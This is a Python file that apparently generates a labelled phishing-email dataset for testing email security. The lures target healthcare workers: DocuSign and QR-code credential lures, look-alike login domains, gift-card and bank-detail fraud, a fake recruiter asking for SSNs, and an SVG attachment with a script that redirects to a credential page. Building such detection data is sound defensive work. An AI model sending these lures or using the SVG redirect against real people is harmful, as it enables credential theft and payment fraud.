    plain = ("HR Payroll Department sent you a document to review and sign.\n\nREVIEW DOCUMENT: " + url + "\n\n"
             "HR Payroll Department\nhr.payroll.dept@outlook.com\n\nPlease review and sign the 2025 Salary & Pay Adjustment "
             "Agreement. Completion is required for the January payroll cycle.\n\nDo Not Share This Email\n")
    ip = "64.207.219.139"
    host = "mailch.docusign.net"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo="mailch.docusign.net", host=host, ip=ip, seed="a28ds",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "docusign.net", "from": "docusign.net",
                     "d": "docusign.net", "mfaddr": "dse_na4@docusign.net"},
               hops=[hop(f"docusign.net ([127.0.0.1])", "mailch.docusign.net (Postfix)", d, 2, "ESMTP", alnum("a28pf", 10, True))],
               head=head(addr("HR Payroll Department via Docusign", "dse_NA4@docusign.net"), addr("Linh Nguyen", rc),
                         "Complete with Docusign: 2025_Salary_Pay_Adjustment_Agreement.pdf", d,
                         f"<{hx('a28mid', 32)}@docusign.net>",
                         sig=[dkim("docusign.net", "mail", d, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type:Reply-To")],
                         reply_to=addr("HR Payroll Department", "hr.payroll.dept@outlook.com"),
                         post=[f"X-DocuSign-EnvelopeID: {env}", "X-DocuSign-Email-Type: EnvelopeActivation"]),
               body=alt(plain, html, f"----=_Part_{num('a28pp', 100000, 999999)}_{num('a28q', 1000000, 9999999)}"))
    add("phishing", "phish", "docusign-pay-adjustment-abused",
        "A real DocuSign envelope (docusign.net, all checks pass) created by an attacker's free account 'HR Payroll "
        "Department' with an outlook.com reply address, asking a hospital employee to sign a 'salary adjustment agreement' "
        "whose document sends them to a credential page.", raw)

    # ---- New MFA policy PDF with a QR code (quishing), spoofed IT display name from a look-alike tenant
    dt = "2025-03-03 09:15:22 -0500"
    d = when(dt)
    rc = "apark@mercyvalleyhealth.org"
    mf = "it-security@mercyvalley-health.org"
    qurl = "https://login.mercyvalley-health.org/mfa/enroll?u=" + base64.b64encode(rc.encode()).decode()
    doc = qr_pdf(["Mercy Valley Health - Information Security", "", "MANDATORY: New Multi-Factor Authentication Policy",
                  "", "Effective March 7, 2025 all workforce members must re-register the Microsoft",
                  "Authenticator app to keep access to email, Epic and the VPN.", "",
                  "Scan the QR code below with your phone camera to enroll.",
                  "Accounts not enrolled by March 7 will be locked."], qurl, "MFA Policy 2025")
    plain = ("Hello,\n\nPlease review the attached updated MFA policy and complete enrollment by March 7, 2025 by scanning "
             "the QR code with your mobile device.\n\nInformation Security\nMercy Valley Health\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("m365", d, "a29", mf, dom="mercyvalley-health.org")
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a29qr",
                  head_lines=head(addr("Information Security", mf), rc, "ACTION REQUIRED: New MFA Policy - Enrollment by 03/07",
                                  d, sd["mid"], sig=sd["sig"], post=fill(sd["post"], "ACTION REQUIRED: New MFA Policy - Enrollment by 03/07", True)),
                  body=Multi("mixed", f"_004_{hx('a29m', 24).upper()}_", [alt(plain, html, f"_000_{hx('a29a', 24).upper()}_"),
                             attachment("application/pdf", "MFA_Policy_Update_2025.pdf", doc)]))
    add("phishing", "phish", "mfa-policy-qr-pdf-lookalike",
        "Quishing: 'new MFA policy' from the look-alike mercyvalley-health.org Microsoft 365 tenant (passes its own checks) "
        "with a PDF whose only action is a QR code to a fake Microsoft enrollment page on the look-alike domain.", raw)

    # ---- Payroll QR code as an inline image, almost no text, from a hacked WordPress mailer
    dt = "2025-08-05 05:41:09 -0500"
    d = when(dt)
    rc = "shawna.price@prairiewindclinic.com"
    mf = "wordpress@harvestmooncatering.net"
    qurl = f"https://payroll-docs.ipfs.dweb.link/?ref={hx('a30r', 12)}#{rc}"
    png = F.qr_png(qurl)
    cid = f"ii_{hx('a30c', 16)}"
    html = (f'<html><body style="font-family:Arial"><p>Shawna Price,</p><p>Your <b>Q3 salary and bonus adjustment</b> '
            'document is ready. Scan to review and acknowledge before 8/7.</p>'
            f'<p><img src="cid:{cid}" width="220" height="220" alt="scan"></p><p style="font-size:11px;color:#888">'
            'Human Resources &amp; Payroll</p></body></html>\n')
    plain = "Shawna Price,\n\nYour Q3 salary and bonus adjustment document is ready. Scan to review.\n"
    sd = sender("cpanel", d, "a30", mf, host="a2plcpnl0931.prod.iad2.secureserver.net", ip="198.71.232.14")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a30qr", auth_over={"dmarc": "none"},
                  head_lines=head(addr("HR Payroll", mf), rc, "Shawna Price - Q3 Salary Adjustment Notice", d, sd["mid"],
                                  sig=sd["sig"], post=["X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
                  body=Multi("related", f"b1_{hx('a30b', 32)}", [alt(plain, html, f"b2_{hx('a30d', 32)}"),
                             attachment("image/png", "qr.png", png, inline=True, cid=cid)]))
    add("phishing", "phish", "salary-adjustment-inline-qr-ipfs",
        "Terse 'Q3 salary adjustment' message from a hacked catering site's WordPress mailer whose only call to action is "
        "an inline QR code image pointing to a phishing page on an IPFS gateway.", raw)

    # ---- Medical director gift-card fraud from Gmail
    dt = "2025-01-16 08:07:33 -0600"
    d = when(dt)
    rc = "tmartin@prairiewindclinic.com"
    mf = "dr.h.lindqvist.md@gmail.com"
    plain = ("Hi Tara,\n\nAre you available? I need you to handle a task for me discreetly, I'm tied up in a meeting "
             "with the board and can't take calls. Let me know asap.\n\nDr. Lindqvist\nSent from my iPhone\n")
    html = gmail_html(["Hi Tara,", "", "Are you available? I need you to handle a task for me discreetly, I&#39;m tied up "
                       "in a meeting with the board and can&#39;t take calls. Let me know asap.", "", "Dr. Lindqvist",
                       "Sent from my iPhone"])
    sd = sender("gmail", d, "a31", mf)
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a31gc",
                  head_lines=head(addr("Dr. Henrik Lindqvist", mf), rc, "Quick task", d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"000000000000{hx('a31b', 16)}"))
    add("phishing", "phish", "medical-director-giftcard-opener",
        "CEO-fraud opener: a Gmail account with the clinic medical director's name asks an employee whether she is "
        "available for a discreet task while he is 'in a board meeting' (the usual prelude to a gift-card request).", raw)



def batch_a7() -> None:
    # ---- Spanish dental clinic: director asks for Google Play / Amazon gift cards (Outlook.com free account)
    dt = "2025-12-17 10:41:26 +0100"
    d = when(dt)
    rc = "recepcion@clinicadentalsonrisa.es"
    mf = "dra.beatriz.ortega@outlook.es"
    paras = ["Hola Lucía,", "", "¿Estás en la clínica? Necesito que me hagas un favor urgente y discreto. Quiero tener un "
             "detalle con el equipo por Navidad y necesito que compres 5 tarjetas regalo de Amazon de 100 € cada una. "
             "Ahora mismo estoy en una reunión con el colegio y no puedo atender llamadas.", "",
             "Cuando las tengas, rasca la parte de atrás y envíame una foto de los códigos por aquí. Te lo devuelvo hoy "
             "mismo.", "", "Gracias,", "Dra. Beatriz Ortega"]
    html = outlook_html(paras)
    plain = "\n".join(paras) + "\n"
    sd = sender("outlook", d, "a32", mf, region="eur")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a32gc",
                  head_lines=head(addr("Dra. Beatriz Ortega", mf), rc, "Favor urgente", d, sd["mid"], sig=sd["sig"],
                                  post=[x.replace("en-US", "es-ES") for x in sd["post"]]),
                  body=alt(plain, html, f"_000_{sd['mid'][1:25]}_"))
    add("phishing", "phish", "directora-tarjetas-regalo-es",
        "Spanish CEO fraud: an outlook.es account using the name of the clinic's director asks reception to buy five "
        "100-euro Amazon gift cards for staff and send photos of the codes while she is 'in a meeting'.", raw)

    # ---- Conference housing scam (fake official housing bureau), look-alike domain
    dt = "2025-06-11 12:18:40 -0400"
    d = when(dt)
    rc = "cmorrison@mercyvalleyhealth.org"
    mf = "reservations@acep-housingbureau.com"
    paras = ["Dear Dr. Morrison,", "",
             "We are the official housing partner for <b>ACEP25 Scientific Assembly</b> (Salt Lake City, September 7-10). "
             "Our records show that you are registered to attend but have not yet secured accommodation within the "
             "official room block.", "",
             "The discounted group rate (from $189/night at the Hyatt Regency and Marriott Downtown) closes this "
             "Friday. Rooms booked outside the block are not covered by the conference shuttle.", "",
             "Please reply with your arrival/departure dates and preferred hotel, and we will send the booking "
             "confirmation and payment link. A one-night deposit is required.", "", "Best regards,",
             "Daniel Brooks", "Group Reservations | Conference Housing Services"]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras) + "\n"
    sd = sender("postfix", d, "a33", mf, host="mail.acep-housingbureau.com", ip="172.86.123.45")
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a33hs",
                  head_lines=head(addr("Daniel Brooks", mf), rc, "ACEP25 - Official Hotel Room Block Closing", d, sd["mid"],
                                  sig=sd["sig"], post=["X-Mailer: Microsoft Outlook 16.0"]),
                  body=alt(plain, html, f"----=_NextPart_000_{hx('a33b', 4).upper()}"))
    add("phishing", "phish", "conference-housing-bureau-scam",
        "Conference housing scam: a look-alike 'official housing bureau' tells an emergency physician the ACEP room block "
        "closes Friday and asks for dates so it can take a deposit; no link, the fraud follows in the reply.", raw)

    # ---- Fake travel-nurse recruiter moving to Telegram and a Google Form for SSN/bank
    dt = "2024-05-30 18:02:51 -0500"
    d = when(dt)
    rc = "kayla.j.simmons@gmail.com"
    mf = "recruiting.vitalmedstaffing@gmail.com"
    form = "https://docs.google.com/forms/d/e/1FAIpQL" + alnum("a35f", 49) + "/viewform?usp=sf_link"
    paras = ["Hello Kayla,", "",
             "I came across your profile and I think you would be a great fit for our 13-week <b>ICU travel "
             "contract</b> in Phoenix, AZ - $3,450/week take-home, housing stipend and sign-on bonus of $2,500.", "",
             "We are moving fast as the start date is June 17. To lock your spot please fill out the onboarding form "
             f'(SSN, license number and direct deposit for the sign-on bonus): <a href="{form}">Onboarding form</a>', "",
             "For a faster response text me on Telegram @VitalMedRecruiter or WhatsApp +1 (602) 555-0171.", "",
             "Best,", "Angela Ruiz", "Senior Travel Recruiter, VitalMed Staffing"]
    html = gmail_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras).replace(
        f'<a href="{form}">Onboarding form</a>', form) + "\n"
    sd = sender("gmail", d, "a35", mf)
    raw = mail(rcpt_kind="gmail", rcpt=rc, dt=dt, helo=sd["host"], host=sd["host"], ip=sd["ip"], seed="a35job",
               auth=sd["auth"], hops=sd["hops"],
               head=head(addr("Angela Ruiz - VitalMed Staffing", mf), rc, "ICU Travel Contract - Phoenix $3,450/wk - start 6/17",
                         d, sd["mid"], sig=sd["sig"]),
               body=alt(plain, html, f"000000000000{hx('a35b', 16)}"))
    add("phishing", "phish", "travel-nurse-recruiter-google-form",
        "Fake travel-nurse recruiter from Gmail offering an inflated ICU contract, asking for SSN, license number and bank "
        "details on a Google Form and pushing the conversation to Telegram/WhatsApp.", raw)

    # ---- Reply-chain hijack from a compromised home-health partner (Google Workspace) with a Dropbox link
    dt = "2025-09-03 14:55:12 -0700"
    d = when(dt)
    rc = "case.management@desertspringsurgical.com"
    mf = "coordinator@sunrisehomehealthaz.com"
    link = f"https://www.dropbox.com/scl/fi/{alnum('a36d', 25).lower()}/Discharge_Schedule_Sept.paper?rlkey={alnum('a36r', 25).lower()}&dl=0"
    paras = ["Hi Monica,", "", "Following up on this - here is the updated discharge/start-of-care schedule for September "
             "with the patients we discussed. Please review and confirm the SOC dates so we can staff accordingly.", "",
             f'<a href="{link}">Discharge_Schedule_Sept.paper</a>', "", "Thanks!", "Gabriela", "--", "Gabriela Rios | Intake Coordinator",
             "Sunrise Home Health", "O: 480-555-0133"]
    quote = ('<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Thu, Aug 21, 2025 at 9:12 AM Monica Alvarez &lt;'
             f'{rc}&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid '
             'rgb(204,204,204);padding-left:1ex">Hi Gabriela,<br><br>Attached are the referrals for the two post-op hip '
             'patients going home next week. Let me know if you can take both.<br><br>Monica</blockquote></div>')
    html = gmail_html(paras).replace("</div>\n", "") + "<br>" + quote + "</div>\n"
    plain = ("\n".join(paras).replace(f'<a href="{link}">Discharge_Schedule_Sept.paper</a>', f"Discharge_Schedule_Sept.paper <{link}>")
             + f"\n\nOn Thu, Aug 21, 2025 at 9:12 AM Monica Alvarez <{rc}> wrote:\n> Hi Gabriela,\n>\n> Attached are the "
             "referrals for the two post-op hip patients going home next week. Let me know if you can take both.\n>\n> Monica\n")
    ip = "209.85.220.65"
    raw = mail(rcpt_kind="gws", rcpt=rc, dt=dt, helo="mail-sor-f65.google.com", host="mail-sor-f65.google.com", ip=ip,
               seed="a36hij",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "sunrisehomehealthaz.com",
                     "from": "sunrisehomehealthaz.com", "d": "sunrisehomehealthaz-com.20230601.gappssmtp.com",
                     "s": "20230601", "mfaddr": mf, "pol": "p=NONE sp=NONE dis=NONE"},
               hops=[f"by 2002:a05:7300:{hx('a36h', 4)} with SMTP id {alnum('a36hh', 20).lower()};\n        {fmt(d + timedelta(seconds=1))}"],
               head=head(addr("Gabriela Rios", mf), addr("Monica Alvarez", rc), "Re: Referrals - post-op hips", d, gmid("a36"),
                         sig=[dkim("sunrisehomehealthaz-com.20230601.gappssmtp.com", "20230601", d,
                                   "mime-version:references:in-reply-to:from:date:message-id:subject:to")],
                         post=[f"In-Reply-To: <MW4PR19MB{num('a36q', 1000, 9999)}{hx('a36q', 16).upper()}@MW4PR19MB{num('a36q', 1000, 9999)}.namprd19.prod.outlook.com>",
                               f"References: <MW4PR19MB{num('a36q', 1000, 9999)}{hx('a36q', 16).upper()}@MW4PR19MB{num('a36q', 1000, 9999)}.namprd19.prod.outlook.com>"]),
               body=alt(plain, html, f"000000000000{hx('a36b', 16)}"))
    add("phishing", "phish", "home-health-reply-hijack-dropbox",
        "Reply-chain hijack: a home-health partner's compromised Google Workspace mailbox (passes all checks) answers a real "
        "referral thread with a Dropbox Paper 'discharge schedule' that leads to a Microsoft credential page.", raw)

    # ---- Doctolib Pro account verification (French), look-alike domain
    dt = "2025-02-25 08:26:44 +0100"
    d = when(dt)
    rc = "dr.lefebvre@clinique-saintroch.fr"
    mf = "securite@doctolib-pro-verification.fr"
    link = "https://pro.doctolib-verification.fr/sessions/new?ref=" + hx("a37r", 12)
    paras = ["Bonjour Docteur Lefebvre,",
             "Dans le cadre de la mise en conformité avec la nouvelle réglementation sur l'hébergement des données de "
             "santé (HDS), nous devons <b>vérifier l'identité de tous les praticiens</b> utilisant Doctolib Pro.",
             "Sans vérification avant le <b>28 février 2025</b>, votre agenda en ligne sera suspendu et vos patients ne "
             "pourront plus prendre rendez-vous."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#107aca;color:#fff;font-size:24px;font-weight:bold">'
                         'Doctolib</td></tr>', paras, link, "Vérifier mon compte", "#107aca",
                         "Doctolib SAS &middot; 54 quai Charles Pasqua, 92300 Levallois-Perret", "Doctolib")
    plain = ("Doctolib\n\nBonjour Docteur Lefebvre,\n\nDans le cadre de la mise en conformité HDS, nous devons vérifier "
             "l'identité de tous les praticiens utilisant Doctolib Pro. Sans vérification avant le 28 février 2025, "
             f"votre agenda en ligne sera suspendu.\n\nVérifier mon compte : {link}\n")
    sd = sender("postfix", d, "a37", mf, host="mail.doctolib-pro-verification.fr", ip="51.91.73.202")
    raw = deliver(sd, rcpt_kind="m365", region="fra", rcpt=rc, dt=dt, seed="a37doc",
                  head_lines=head(addr("Doctolib Pro", mf), rc, "Action requise : vérification de votre compte praticien",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a37b', 30)}"))
    add("phishing", "phish", "doctolib-pro-verification-fr",
        "French Doctolib Pro 'verify your practitioner account or your calendar is suspended' lure from the look-alike "
        "doctolib-pro-verification.fr, sending a clinic doctor to a fake Doctolib login.", raw)

    # ---- French supplier RIB change (BEC) from a look-alike domain
    dt = "2024-11-26 15:03:17 +0100"
    d = when(dt)
    rc = "comptabilite@clinique-saintroch.fr"
    mf = "n.girard@medisante-distribution.com"
    paras = ["Bonjour,", "",
             "Suite à un changement de banque, nous vous informons que nos coordonnées bancaires ont été modifiées. "
             "Merci de bien vouloir mettre à jour notre RIB dans vos fichiers fournisseurs et d'effectuer le règlement "
             "des factures FA-24-10871 et FA-24-11032 (montant total 18 640,00 € TTC) sur le nouveau compte :", "",
             "Titulaire : MEDISANTE DISTRIBUTION", "IBAN : FR76 1695 8000 0142 8873 6519 077", "BIC : QNTOFRP1XXX", "",
             "Merci de nous confirmer la prise en compte par retour de mail.", "", "Cordialement,",
             "Nathalie Girard", "Service Comptabilité Clients", "Médisanté Distribution"]
    html = outlook_html(paras)
    plain = "\n".join(paras) + "\n"
    sd = sender("m365", d, "a38", mf, region="fra", dom="medisante-distribution.com")
    raw = deliver(sd, rcpt_kind="m365", region="fra", rcpt=rc, dt=dt, seed="a38rib",
                  head_lines=head(addr("Nathalie Girard", mf), rc, "Changement de coordonnées bancaires - Médisanté", d,
                                  sd["mid"], sig=sd["sig"], reply_to=addr("Nathalie Girard", "n.girard.medisante@proton.me"),
                                  post=fill(sd["post"], "Changement de coordonnees bancaires", False)),
                  body=alt(plain, html, f"_000_{hx('a38b', 24).upper()}_"))
    add("phishing", "phish", "rib-fournisseur-lookalike-fr",
        "French supplier-fraud BEC: from medisante-distribution.com (a look-alike of the clinic's real medical distributor, "
        "its own Microsoft 365 tenant) with a Proton reply-to, asking accounts to pay two invoices to a new IBAN at an online bank.", raw)



def batch_a8() -> None:
    # ---- German practice: eHBA / TI certificate expiry lure
    dt = "2025-06-23 07:58:31 +0200"
    d = when(dt)
    rc = "praxis@praxis-drbrandt.de"
    mf = "service@ehba-zertifikat-verlaengerung.de"
    link = "https://ehba-ti-portal.de/verlaengerung/login?bsnr=" + str(num("a39b", 100000000, 999999999))
    paras = ["Sehr geehrte Frau Dr. Brandt,",
             "das Zertifikat Ihres <b>elektronischen Heilberufsausweises (eHBA)</b> sowie der SMC-B Ihrer Praxis laufen "
             "am <b>30.06.2025</b> ab. Ohne rechtzeitige Verlängerung ist der Zugang zur Telematikinfrastruktur "
             "(E-Rezept, eAU, ePA) gesperrt.",
             "Bitte bestätigen Sie Ihre Praxisdaten und die Verlängerungsgebühr über das Antragsportal."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#003d7c;color:#fff;font-size:19px;font-weight:bold">'
                         'TI-Zertifikatsdienst &middot; eHBA / SMC-B</td></tr>', paras, link, "Jetzt verlängern", "#e2001a",
                         "Dies ist eine automatisch generierte E-Mail. Bitte antworten Sie nicht auf diese Nachricht.", "eHBA")
    plain = ("Sehr geehrte Frau Dr. Brandt,\n\ndas Zertifikat Ihres elektronischen Heilberufsausweises (eHBA) sowie der "
             "SMC-B Ihrer Praxis laufen am 30.06.2025 ab. Ohne rechtzeitige Verlängerung ist der Zugang zur "
             f"Telematikinfrastruktur gesperrt.\n\nJetzt verlängern: {link}\n")
    sd = sender("postfix", d, "a39", mf, host="mail.ehba-zertifikat-verlaengerung.de", ip="185.232.67.18")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a39ehba",
                  head_lines=head(addr("eHBA Zertifikatsservice", mf), rc, "Ihr eHBA-Zertifikat läuft ab - Verlängerung erforderlich",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a39bb', 30)}"))
    add("phishing", "phish", "ehba-zertifikat-ti-de",
        "German practice lure: 'your eHBA/SMC-B certificate expires, Telematik access will be blocked' from a look-alike "
        "certificate-service domain, leading to a portal that asks for practice data and a renewal fee.", raw)

    # ---- Spanish: Colegio de Dentistas unpaid fee, link to payment page on a compromised site
    dt = "2025-04-08 11:20:05 +0200"
    d = when(dt)
    rc = "dr.navarro@clinicadentalsonrisa.es"
    mf = "tesoreria@coem-colegiados.es"
    link = "https://www.reformasgarciaysoler.es/wp-content/uploads/coem/pago/?col=" + str(num("a40c", 10000, 99999))
    paras = ["Estimado/a colegiado/a:",
             "Le informamos de que consta <b>pendiente de pago la cuota colegial del primer trimestre de 2025</b> "
             "(148,50 €). El recibo domiciliado ha sido devuelto por su entidad bancaria.",
             "Para evitar el recargo y la suspensión temporal de su habilitación profesional, puede abonar la cuota "
             "mediante tarjeta en el siguiente enlace antes del 15 de abril."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#00629b;color:#fff;font-size:18px">Colegio Oficial de '
                         'Dentistas de Madrid</td></tr>', paras, link, "Pagar cuota", "#00629b",
                         "COEM &middot; Calle Mauricio Legendre 38, 28046 Madrid", "COEM")
    plain = ("Estimado/a colegiado/a:\n\nLe informamos de que consta pendiente de pago la cuota colegial del primer "
             "trimestre de 2025 (148,50 €). El recibo domiciliado ha sido devuelto.\n\nPagar cuota: " + link + "\n")
    sd = sender("cpanel", d, "a40", mf, host="srv14.cdmon.net", ip="212.36.74.101")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a40coem", auth_over={"dmarc": "none"},
                  head_lines=head(addr("COEM Tesorería", mf), rc, "Recibo devuelto - cuota colegial 1T 2025", d, sd["mid"],
                                  sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a40b', 30)}"))
    add("phishing", "phish", "colegio-dentistas-cuota-es",
        "Spanish lure impersonating the Madrid dental association about a 'returned' membership-fee direct debit, sending "
        "the dentist to a card-payment page planted on a compromised WordPress site.", raw)

    # ---- CQC draft report lure to a care home, Google Drawings hosted on docs.google.com, sent via Gmail
    dt = "2024-10-15 13:47:22 +0100"
    d = when(dt)
    rc = "registered.manager@oakleighcarehome.co.uk"
    mf = "cqc.inspections.team@gmail.com"
    link = "https://docs.google.com/drawings/d/1" + alnum("a41d", 43) + "/preview"
    paras = ["Dear Registered Manager,", "",
             "Please find below the link to your <b>draft inspection report</b> for factual accuracy review following "
             "our recent inspection of Oakleigh Care Home.", "",
             f'<a href="{link}">View draft report (CQC Factual Accuracy)</a>', "",
             "You have 10 working days to submit any factual accuracy comments.", "", "Kind regards,",
             "Inspection Team - Adult Social Care", "Care Quality Commission"]
    html = gmail_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras).replace(
        f'<a href="{link}">View draft report (CQC Factual Accuracy)</a>', f"View draft report: {link}") + "\n"
    sd = sender("gmail", d, "a41", mf)
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a41cqc",
                  head_lines=head(addr("CQC Inspection Team", mf), rc, "Draft inspection report - factual accuracy check", d,
                                  sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"000000000000{hx('a41b', 16)}"))
    add("phishing", "phish", "cqc-draft-report-google-drawings",
        "CQC 'draft inspection report for factual accuracy' lure to a care-home manager from a Gmail account, linking to a "
        "Google Drawings preview whose clickable image leads to a credential page.", raw)

    # ---- Genuine PayPal invoice abused for a callback scam, to a nurse's Gmail
    dt = "2025-07-30 03:14:09 -0700"
    d = when(dt)
    rc = "hollyannbecker@gmail.com"
    inv = f"INV2-{alnum('a42i', 4, True)}-{alnum('a42j', 4, True)}-{alnum('a42k', 4, True)}-{alnum('a42l', 4, True)}"
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('INV2-', '').replace('-', '')}"
    note = ("Your PayPal account has been charged $599.99 for Norton 360 Total Protection (3 years). If you did not "
            "authorize this transaction call our billing department at +1 (808) 555-0164 within 24 hours to cancel and "
            "receive a full refund.")
    html = page(
        '<tr><td style="padding:20px 30px"><span style="color:#003087;font-size:26px;font-weight:bold;font-style:italic">Pay'
        '<span style="color:#009cde">Pal</span></span></td></tr>\n'
        '<tr><td style="padding:8px 30px;font-size:20px">Billing Department sent you an invoice</td></tr>\n'
        '<tr><td style="padding:8px 30px;font-size:28px;font-weight:bold">$599.99 USD</td></tr>\n'
        f'<tr><td style="padding:8px 30px;color:#555">Due on receipt &middot; Invoice number {inv}</td></tr>\n'
        f'<tr><td style="padding:12px 30px;background:#f5f7fa;line-height:20px"><b>Note from seller</b><br>{note}</td></tr>\n'
        f'<tr><td style="padding:20px 30px">{button(link, "View and Pay Invoice", "#0070e0")}</td></tr>\n'
        '<tr><td style="padding:16px 30px;font-size:11px;color:#666">Don\'t recognize this invoice? Report this invoice.<br>'
        'PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name.'
        '<br>Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal, Inc. 2211 N. First St., San Jose, CA 95131.</td></tr>',
        "PayPal")
    plain = (f"Billing Department sent you an invoice\n\n$599.99 USD\nDue on receipt\nInvoice number {inv}\n\n"
             f"Note from seller\n{note}\n\nView and Pay Invoice: {link}\n")
    ip = "173.0.84.226"
    raw = mail(rcpt_kind="gmail", rcpt=rc, dt=dt, helo="mx0.slc.paypal.com", host="mx0.slc.paypal.com", ip=ip, seed="a42pp",
               auth={"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "paypal.com", "from": "paypal.com",
                     "d": "paypal.com", "s": "pp-dkim1", "mfaddr": "service@paypal.com", "pol": "p=REJECT sp=REJECT dis=NONE"},
               hops=[],
               head=head(addr("service@paypal.com", "service@paypal.com"), rc,
                         f"Invoice from Billing Department ({inv})", d,
                         f"<{hx('a42m', 8)}-{hx('a42n', 4)}-{hx('a42o', 4)}-{hx('a42p', 4)}-{hx('a42q', 12)}@mx0.slc.paypal.com>",
                         sig=[dkim("paypal.com", "pp-dkim1", d, "Date:To:From:Subject:Message-ID:MIME-Version:Content-Type")],
                         post=[f"X-PP-REQUESTED-TIME: {int(d.timestamp()) * 1000}", "X-PP-Email-transmission-Id: "
                               + f"{hx('a42t', 8)}-{hx('a42u', 4)}-11f0-{hx('a42v', 4)}-{hx('a42w', 12)}",
                               "PP-Correlation-Id: " + hx("a42c", 13), "X-MaxCode-Template: PPX001085"]),
               body=alt(plain, html, f"--=_Part_{num('a42pt', 100000, 999999)}_{num('a42pu', 1000000, 9999999)}.{int(d.timestamp())}"))
    add("phishing", "phish", "paypal-invoice-norton-callback",
        "Callback scam through a genuine PayPal invoice (paypal.com, all checks pass) sent to a nurse's Gmail: the seller "
        "note claims a $599.99 Norton charge and gives a phone number to 'cancel and refund'.", raw)

    # ---- NHSmail deactivation lure, spoofed display, IPFS gateway
    dt = "2025-10-21 16:27:55 +0100"
    d = when(dt)
    rc = "tom.hardcastle@nhs.net"
    mf = "admin@gfmsportswear.com"
    link = "https://ipfs.io/ipfs/bafybei" + alnum("a45i", 51).lower() + "?filename=nhsmail.html#" + rc
    paras = ["NHSmail", "", f"Dear {rc},", "",
             "Your NHSmail account has been flagged as inactive under the NHSmail Acceptable Use Policy and is "
             "scheduled for <b>deactivation within 24 hours</b>. All emails, calendar entries and Teams data will be removed.",
             "", f'To keep your account active, <a href="{link}">confirm your account here</a>.', "",
             "NHSmail Support", "This is an automated message from the NHSmail Service."]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras).replace(
        f'<a href="{link}">confirm your account here</a>', link) + "\n"
    sd = sender("m365", d, "a45", mf, region="eur")
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a45nhs",
                  head_lines=head(addr("NHSmail Support", mf), rc, "NHSmail account deactivation notice", d, sd["mid"],
                                  sig=sd["sig"], post=fill(sd["post"], "NHSmail account deactivation notice", False)),
                  body=alt(plain, html, f"_000_{hx('a45b', 24).upper()}_"))
    add("phishing", "phish", "nhsmail-deactivation-ipfs",
        "'NHSmail account deactivation' notice to an nhs.net user from a compromised sportswear company's Microsoft 365 "
        "mailbox (passes its checks), linking to an NHSmail login copy on the ipfs.io gateway.", raw)

    # ---- SVG 'lab results' attachment with a script redirect, to a veterinary practice
    dt = "2025-04-16 09:03:41 +0100"
    d = when(dt)
    rc = "vets@northgatevets.co.uk"
    mf = "results@idexx-vetconnect-uk.com"
    target = "https://vetconnect-results.pages.dev/#" + base64.b64encode(rc.encode()).decode()
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200">'
           '<rect width="600" height="200" fill="#fff"/><text x="20" y="60" font-family="Arial" font-size="20">IDEXX Laboratory '
           'Results - loading...</text><script type="text/javascript"><![CDATA[\nvar t="'
           + base64.b64encode(target.encode()).decode() + '";window.location.href=atob(t);\n]]></script></svg>\n').encode()
    plain = ("Hello,\n\nLaboratory results for patient BELLA (canine) - accession 4471932 are attached.\n\n"
             "IDEXX VetConnect PLUS\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("postfix", d, "a46", mf, host="mail.idexx-vetconnect-uk.com", ip="89.23.107.55")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a46svg",
                  head_lines=head(addr("IDEXX VetConnect PLUS", mf), rc, "Lab results ready - BELLA - Acc 4471932", d,
                                  sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"=_{hx('a46m', 30)}", [alt(plain, html, f"=_{hx('a46a', 30)}"),
                             attachment("image/svg+xml", "Results_4471932.svg", svg)]))
    add("phishing", "phish", "idexx-results-svg-redirect",
        "IDEXX 'lab results ready' message to a vet practice from a look-alike domain with an SVG attachment whose embedded "
        "script redirects to a credential page on pages.dev.", raw)



# ================================================================ attacks, part 2: messages carrying malware

def batch_m1() -> None:
    # ---- Fake patient referral as a macro-enabled Word document, from a Gmail 'GP'
    dt = "2024-08-13 10:31:56 +0100"
    d = when(dt)
    rc = "referrals@westfieldorthopaedics.co.uk"
